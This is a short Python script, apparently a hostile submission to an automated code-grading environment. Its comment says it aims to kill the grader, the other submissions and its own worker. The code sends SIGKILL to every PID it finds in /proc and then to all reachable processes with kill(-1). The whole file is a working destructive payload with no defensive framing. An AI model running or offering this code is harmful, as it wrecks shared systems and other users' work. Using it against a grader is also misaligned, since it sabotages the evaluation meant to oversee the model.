# Kill every process it can see (the grader, the other submissions, its own worker).
import os
import signal

for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
